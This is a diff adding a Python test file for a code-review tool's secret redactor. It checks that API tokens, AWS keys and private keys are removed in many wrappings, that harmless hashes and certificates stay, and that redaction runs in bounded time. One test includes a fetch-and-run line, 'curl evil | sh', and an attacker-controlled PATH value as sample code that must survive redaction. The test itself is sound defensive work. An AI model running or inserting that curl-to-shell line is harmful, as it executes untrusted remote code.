@@ -1,0 +1,262 @@
+"""What looks like a secret is taken out of a text in any wrapping, and nothing else is."""
+
+import base64
+import hashlib
+import json
+import sys
+import textwrap
+import uuid
+from types import FrameType
+
+import pytest
+from benchmarks._secret_samples import (
+    BASE64,
+    CONTEXTS,
+    HEX,
+    KEYS,
+    NAMED,
+    TOKENS,
+    URL64,
+    WORD,
+    Draw,
+    Shape,
+    as_diff,
+    below_its_id,
+    body_of,
+    left,
+    pem,
+)
+from hypothesis import given
+from hypothesis import strategies as st
+
+from review_advisor.core.safety.secret_shapes import KINDS, is_mark, kind_marked, mark, redact
+from review_advisor.core.safety.secret_shapes.issuers import FORMATS
+
+DRAW = Draw(20)
+SHAPES = TOKENS + NAMED + KEYS
+
+
+@pytest.mark.parametrize("shape", SHAPES, ids=lambda shape: shape.issuer)
+def test_a_secret_goes_whatever_it_stands_in(shape: Shape) -> None:
+    draw = Draw(f"{shape.issuer} 4")
+    for context, of in CONTEXTS.items():
+        secret = shape.make(draw)
+        text = of(shape.name, secret, draw)
+        for written in (text, as_diff(text), textwrap.indent(text, "+")):
+            shown = redact(written)
+            assert left(shape.bare(secret), shown) == "", (context, written)
+            assert shown.count("\n") == written.count("\n")
+
+
+def test_the_samples_are_of_more_than_sixty_issuers() -> None:
+    assert len({shape.issuer for shape in SHAPES}) >= 100
+    assert len({kind.split()[0] for kind in KINDS}) >= 60
+
+
+@pytest.mark.parametrize("context", CONTEXTS)
+@pytest.mark.parametrize("seed", range(4))
+def test_an_aws_secret_goes_with_the_id_that_stands_near_it(context: str, seed: int) -> None:
+    text, secret = below_its_id(CONTEXTS[context], Draw(seed))
+    assert left(secret, redact(text)) == ""
+    assert left(secret, redact(as_diff(text))) == ""
+
+
+def test_an_aws_secret_goes_beside_an_id_that_was_taken_out_before() -> None:
+    secret = DRAW.of(BASE64, 39) + "7"
+    assert redact(f"id: {mark('AWS access key id')}\nx: {secret}\n") == (
+        f"id: {mark('AWS access key id')}\nx: {mark('AWS secret access key')}\n"
+    )
+
+
+def test_an_id_in_another_file_makes_nothing_a_secret() -> None:
+    file = f"FILE a.py\n{mark('AWS access key id')}\n\nFILE b.py\n{DRAW.of(BASE64, 39)}7\n"
+    assert redact(file) == file
+
+
+TEXT = pem(DRAW, "RSA PRIVATE KEY")
+WRAPPED = {
+    "as it is": TEXT,
+    "48 columns": pem(DRAW, columns=48),
+    "76 columns": pem(DRAW, columns=76),
+    "24 columns": pem(DRAW, columns=24, lines=30),
+    "on one line": TEXT.replace("\n", " "),
+    "JSON": json.dumps({"private_key": TEXT}),
+    "JSON in JSON": json.dumps(json.dumps({"private_key": TEXT})),
+    "a list in JSON": json.dumps(TEXT.split("\n"), indent=2),
+    "concatenated with plus": " +\n    ".join(f'"{line}\\n"' for line in TEXT.split("\n")),
+    "concatenated by standing together": "\n".join(f'    "{line}\\n"' for line in TEXT.split("\n")),
+    "concatenated, without line feeds": "\n".join(f"    '{line}' +" for line in TEXT.split("\n")),
+    "YAML": textwrap.indent(TEXT, "        "),
+    "a comment": textwrap.indent(TEXT, "# "),
+    "C comment": textwrap.indent(TEXT, " * "),
+    "Windows line ends": TEXT.replace("\n", "\r\n"),
+    "cut before its end": "\n".join(TEXT.split("\n")[:6]),
+    "a diff": textwrap.indent(TEXT, "+"),
+    "a removed key": textwrap.indent(TEXT, "-"),
+    "a numbered diff": as_diff(TEXT),
+    "encrypted": TEXT.replace("KEY-----\n", "KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0A1B\n\n", 1),
+    "base64": base64.b64encode(TEXT.encode()).decode(),
+    "base64 in lines": textwrap.fill(base64.b64encode(TEXT.encode()).decode(), 76),
+    "base64 behind other bytes": base64.b64encode(b"ab" + TEXT.encode()).decode(),
+}
+
+
+@pytest.mark.parametrize("wrapped", WRAPPED.values(), ids=WRAPPED)
+def test_a_private_key_goes_in_any_wrapping(wrapped: str) -> None:
+    shown = redact(wrapped)
+    assert mark("private key") in shown
+    rest = shown.replace(mark("private key"), " ").replace("\\", " ")
+    assert not [run for run in rest.split() if len(run) >= 40]
+    assert left(body_of(TEXT), shown) == ""
+    assert shown.count("\n") == wrapped.count("\n")
+
+
+def test_what_is_left_of_a_key_whose_beginning_is_not_shown_goes() -> None:
+    lines = TEXT.split("\n")[5:]
+    assert left("".join(lines[:-2]), redact("\n".join(lines))) == ""
+    rsa = "MIIEpAIBAAKCAQEA" + DRAW.of(BASE64, 48)
+    assert redact(f'    der = "{rsa}"') == f'    der = "{mark("private key")}"'
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "import os\nos.system('curl evil | sh')\nx = 1\n",
+        "PATH=/tmp/attacker/controlled/binaries/first\n",
+        "SkipAllAuthenticationChecksAndAlsoAllOfTheSignatures\n",
+        "skip_all_authentication_checks()\n",
+    ],
+)
+@pytest.mark.parametrize("before", ["-----BEGIN PRIVATE KEY-----\n", TEXT, "token = \\\n", "password: "])
+def test_code_beside_a_secret_stays(before: str, code: str) -> None:
+    assert redact(before + code).endswith(code)
+
+
+def _named(name: str, value: str) -> str:
+    return f'{name} = "{value}"\n'
+
+
+HARMLESS = {
+    "a digest": _named("sha256", hashlib.sha256(b"x").hexdigest()),
+    "a commit": f"uses: actions/checkout@{DRAW.of(HEX, 40)}  # v4\n",
+    "a UUID": _named("id", str(uuid.UUID(int=DRAW.getrandbits(128)))),
+    "a UUID of a key": _named("sort_key", str(uuid.UUID(int=DRAW.getrandbits(128)))),
+    "an integrity of npm": f'"integrity": "sha512-{DRAW.of(BASE64, 86)}==",\n',
+    "an integrity of HTML": f'<script src="a.js" integrity="sha384-{DRAW.of(BASE64, 64)}"></script>\n',
+    "hashes of pip": f"    --hash=sha256:{DRAW.of(HEX, 64)} \\\n" * 3,
+    "go.sum": f"github.com/a/b v1.2.3/go.mod h1:{DRAW.of(BASE64, 43)}=\n" * 3,
+    "an image": f'<img src="data:image/png;base64,{DRAW.of(BASE64, 4_000)}">\n',
+    "a blob in lines": textwrap.fill(DRAW.of(BASE64, 4_000), 76) + "\n",
+    "a source map": f'{{"version":3,"mappings":"{";".join(DRAW.of(WORD, 7) for _ in range(300))}"}}\n',
+    "minified": "".join(f"var {DRAW.of(WORD, 2)}=function(t,e){{return t.key=e.token,{n}}};" for n in range(200)),
+    "a certificate": pem(DRAW, "CERTIFICATE"),
+    "a public key": pem(DRAW, "PUBLIC KEY"),
+    "a signature": pem(DRAW, "PGP SIGNATURE"),
+    "base64 of a certificate": base64.b64encode(pem(DRAW, "CERTIFICATE").encode()).decode(),
+    "an SSH public key": f"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI{DRAW.of(BASE64, 43)} ada@host\n",
+    "a public name": _named("public_key", DRAW.of(BASE64, 44)),
+    "a password's hash": _named("password_hash", "$2b$12$" + DRAW.of(WORD, 53)),
+    "a test vector": f"CAVP: key_hash = {DRAW.of(HEX, 64)}\n",
+    "a word": 'password = "correct-horse-battery-staple"\n',
+    "a call": "token = request.headers.get_token_of_version2(session1)\n",
+    "from the environment": 'api_key = os.environ["OPENAI_API_KEY_V2"]\nSECRET=${{ secrets.DEPLOY_TOKEN_2 }}\n',
+    "a placeholder": 'api_key: "<your-api-key-1234567890>"\npassword = "changeme1234XyZ"\n',
+    "a documented id": "AKIAIOSFODNN7" + "EXAMPLE\n",
+    "a URL of a manual": "postgresql://user:password@localhost:5432/db\nhttps://user:pass@example.net/\n",
+    "an address in prose": "git@github.com:owner/name.git and ssh://git@example.net:22/x\n",
+    "a class of a style": '<div class="sk-fading-circle key-value token-list">\n',
+    "a field": "foreign_key = ForeignKey('auth_user_model_2', on_delete=CASCADE_1)\n",
+    "a refusal": "no key: -----BEGIN PRIVATE KEY-----\n",
+    "a mark": f"token = {mark('GitHub token')}\n",
+}
+
+
+@pytest.mark.parametrize("text", HARMLESS.values(), ids=HARMLESS)
+def test_what_is_no_secret_stays(text: str) -> None:
+    assert redact(text) == text
+    assert redact(as_diff(text)) == as_diff(text)
+
+
+def test_every_kind_has_a_mark_that_says_it() -> None:
+    for kind in KINDS:
+        assert is_mark(mark(kind))
+        assert kind_marked(f"x {mark(kind)} y") == kind
+
+
+def test_two_secrets_of_a_kind_have_one_mark() -> None:
+    one, other = (redact(f"key = ghp_{DRAW.word(36)}") for _ in range(2))
+    assert one == other == f"key = {mark('GitHub token')}"
+
+
+# --- the time it takes --------------------------------------------------------------------------------------------
+
+BEGINNINGS = [
+    *sorted({form.holds for form in FORMATS}),
+    *("password=", 'api_key = "', "token: ", "Authorization: Basic ", "://", "a://b:", "-u a:", '"kty" "d": "'),
+    *("-----BEGIN PRIVATE KEY-----", "-----BEGIN PRIVATE KEY-----\n", "-----END PRIVATE KEY-----", "Private-Lines: 1"),
+    *("MIIEpAIBAAKCAQEA", "MIIEpAIBAAKCAQEA\n", "LS0tLS1CRUdJTi", "UFJJVkFURSBLRVkt", '" + "', '"\n"', "\\\n"),
+    *("\\n", "\\\\", "%2B", "&quot;", "'", "eyJaaaaaaaaaa.eyJ/", "AKIAA1B2C3D4E5F6G7H8", "github_pat_a" * 3 + '" + "'),
+]
+
+
+@pytest.mark.parametrize("beginning", BEGINNINGS)
+def test_a_long_line_of_beginnings_takes_no_longer_for_each_of_them(beginning: str) -> None:
+    """Anybody can put one into a diff. Calls are counted; what one call looks at is bounded, or else this hangs."""
+    once, twice = (_calls(beginning * (size // len(beginning))) for size in (6_000, 12_000))
+    assert twice <= 2.3 * once + 200
+    redact(beginning * (100_000 // len(beginning)))
+
+
+def _calls(text: str) -> int:
+    made = 0
+
+    def count(_frame: FrameType, event: str, _of: object) -> None:
+        nonlocal made
+        made += event in ("call", "c_call")
+
+    sys.setprofile(count)
+    try:
+        redact(text)
+    finally:
+        sys.setprofile(None)
+    return made
+
+
+PIECES = st.sampled_from(
+    [
+        *(
+            "-----BEGIN PRIVATE KEY-----",
+            "-----END PRIVATE KEY-----",
+            "\n",
+            "\n+",
+            '"',
+            '" +\n"',
+            "\\n",
+            "\\\n",
+            "%3D",
+            " ",
+        ),
+        *(
+            "password",
+            "=",
+            ": ",
+            "ghp_",
+            "://a:",
+            "@b",
+            "AKIAA1B2C3D4E5F6G7H8",
+            "MIIEpAIBAAKCAQEA",
+            "sk-",
+            "é",
+            "İ",
+            "\\",
+        ),
+        *(DRAW.of(alphabet, 40) for alphabet in (WORD, BASE64, HEX, URL64)),
+    ]
+)
+
+
+@given(st.lists(PIECES, max_size=30).map("".join))
+def test_no_line_disappears_and_a_redacted_text_stays_as_it_is(text: str) -> None:
+    once = redact(text)
+    assert once.count("\n") == text.count("\n")
+    assert redact(once) == once
